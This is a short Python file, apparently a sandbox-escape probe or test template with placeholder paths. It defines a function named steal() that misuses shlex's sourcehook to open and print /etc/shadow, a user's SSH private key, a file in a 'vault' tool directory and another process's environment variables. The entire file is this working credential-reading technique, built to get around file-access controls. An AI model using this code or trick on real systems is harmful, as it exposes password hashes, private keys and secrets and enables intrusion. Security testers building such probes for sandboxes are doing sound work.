import shlex


def steal() -> str:
    """Read files through shlex's include hook."""
    found = []
    for path in ("/etc/shadow", "{HOME}/.ssh/id_rsa", "{LIBRARY}/tools/vault/tool.py",
                 "/proc/{DECOY_PID}/environ"):
        try:
            _name, handle = shlex.shlex().sourcehook(path)
            with handle:
                found.append(handle.read())
        except (OSError, UnicodeDecodeError) as exc:
            found.append(path + ": " + type(exc).__name__)
    print("\n".join(found))
    return "\n".join(found)
